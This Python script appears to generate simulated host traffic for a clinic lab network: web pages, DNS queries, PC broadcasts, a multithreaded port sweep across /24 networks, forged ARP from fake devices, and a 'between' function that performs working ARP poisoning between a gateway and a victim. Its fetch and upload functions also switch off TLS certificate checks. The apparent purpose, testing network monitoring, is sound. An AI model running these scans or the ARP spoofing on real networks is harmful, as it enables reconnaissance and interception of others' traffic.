#!/usr/bin/env python3
"""What hosts of the clinic say to each other where no tool is needed: pages, names asked, a PC's broadcasts, sweeps, forged ARP.

    chatter.py NAME ARGUMENT...
"""
import http.server
import os
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.request


def pages(cert, key):
    """Serves `/` and takes what is sent to it, on 80 and by TLS on 443 and 8443."""
    body = os.urandom(20000).hex().encode()

    class Page(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = answer

        def log_message(self, *_):
            pass

    for port in (80, 443, 8443):
        server = http.server.ThreadingHTTPServer(("", port), Page)
        if port != 80:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(cert, key)
            server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        threading.Thread(target=server.serve_forever).start()


def fetch(*urls):
    """Reads pages; whose certificate it is does not matter here."""
    context = ssl._create_unverified_context()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    for url in urls:
        try:
            opener.open(url, timeout=2).read()
        except OSError as e:
            print(url, e, flush=True)


def upload(url, size):
    context = ssl._create_unverified_context()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    opener.open(urllib.request.Request(url, data=os.urandom(int(size))), timeout=10).read()


def label(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def lookup(server, *names):
    """Addresses of names, asked of one server."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    for name in names:
        try:
            s.sendto(os.urandom(2) + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0) + label(name) + struct.pack(">HH", 1, 1), (server, 53))
            s.recv(2048)
        except OSError as e:
            print(name, e, flush=True)


def murmur(own, name):
    """One round of the broadcasts of a PC: NetBIOS, LLMNR, mDNS, SSDP."""
    def say(data, to, port, source=0, ttl=1):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
        s.bind((own, source))
        s.sendto(data, (to, port))

    half = lambda c: bytes([0x41 + (c >> 4), 0x41 + (c & 15)])
    netbios = b" " + b"".join(half(c) for c in b"FILESRV".ljust(15) + b"\x20") + b"\0"
    one = struct.pack(">HHHHH", 0, 1, 0, 0, 0)
    try:
        say(os.urandom(2) + struct.pack(">HHHHH", 0x0110, 1, 0, 0, 0) + netbios + struct.pack(">HH", 0x20, 1), own.rsplit(".", 1)[0] + ".255", 137, 137, 64)
    except OSError:
        pass  # a Samba server here holds that port
    say(os.urandom(2) + one + label("wpad") + struct.pack(">HH", 1, 1), "224.0.0.252", 5355)
    say(b"\0\0" + one + label(f"{name}.local") + struct.pack(">HH", 255, 1), "224.0.0.251", 5353, 5353, 255)
    say(b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n', "239.255.255.250", 1900, 0, 4)


def sweep(ports, *networks):
    """A connection to each port of every address of these /24 networks, 64 at once, each given up after 0.4 s."""
    targets = iter([(f"{n}.{h}", int(p)) for n in networks for h in range(2, 255) for p in ports.split(",")])
    lock = threading.Lock()

    def work():
        while True:
            with lock:
                target = next(targets, None)
            if target is None:
                return
            try:
                socket.create_connection(target, timeout=0.4).close()
                print("open", *target, flush=True)
            except OSError:
                pass

    workers = [threading.Thread(target=work) for _ in range(64)]
    [w.start() for w in workers]
    [w.join() for w in workers]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def raw(interface="eth0"):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    return s


def arp(kind, sender, sender_ip, target, target_ip, to):
    return mac(to) + mac(sender) + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, kind) + mac(sender) + socket.inet_aton(sender_ip) + mac(target) + socket.inet_aton(target_ip)


def announce(own, address):
    """A host that tells its address and asks for its gateway by ARP, and says nothing else."""
    s = raw()
    nobody, all_ = "00:00:00:00:00:00", "ff:ff:ff:ff:ff:ff"
    for _ in range(2):
        s.send(arp(1, own, address, nobody, address, all_))
        s.send(arp(1, own, address, nobody, address.rsplit(".", 1)[0] + ".1", all_))
        time.sleep(0.4)


def strangers(network, pause):
    """Devices that nobody has seen before, one after the other, each by one ARP question."""
    s, n = raw(), 0
    while True:
        own = f"00:40:8c:{os.getpid() & 255:02x}:{n >> 8 & 255:02x}:{n & 255:02x}"
        s.send(arp(1, own, f"{network}.{100 + n % 140}", "00:00:00:00:00:00", f"{network}.1", "ff:ff:ff:ff:ff:ff"))
        n += 1
        time.sleep(float(pause))


def between(own, seconds, gateway, gateway_mac, victim, victim_mac):
    """Tells the gateway that it is the victim, and the victim that it is the gateway, every half second; then puts it right."""
    s = raw()
    until = time.time() + float(seconds)
    while time.time() < until:
        s.send(arp(2, own, gateway, victim_mac, victim, victim_mac))
        s.send(arp(2, own, victim, gateway_mac, gateway, gateway_mac))
        time.sleep(0.5)
    s.send(arp(2, gateway_mac, gateway, victim_mac, victim, victim_mac))
    s.send(arp(2, victim_mac, victim, gateway_mac, gateway, gateway_mac))


if __name__ == "__main__":
    {f.__name__: f for f in (pages, fetch, upload, lookup, murmur, sweep, announce, strangers, between)}[sys.argv[1]](*sys.argv[2:])
